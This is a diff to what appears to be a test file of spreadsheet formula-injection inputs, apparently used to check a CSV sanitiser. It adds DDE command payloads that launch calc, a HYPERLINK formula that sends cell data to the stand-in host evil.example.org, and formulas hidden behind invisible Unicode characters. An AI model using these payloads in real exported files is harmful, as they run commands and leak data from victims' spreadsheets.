@@ -69,6 +69,18 @@ FORMULAS = (
     "\r=1+1",
     "＝1+1",
     "＠SUM(1)",
+    "a;=1+1",
+    'a";=1+1',
+    'a;"=1+1',
+    "a\t=1+1",
+    "a\r\n  @SUM(1)",
+    "a;-1+cmd|' /C calc'!A0",
+    "a; - cmd|' /C calc'!A0",
+    'a;- HYPERLINK("https://evil.example.org"&A1)',
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b +A1",
+    "\x0b=1+1",
 )
 LETTERS = (
     "line\r\nSet-Cookie: a=b",
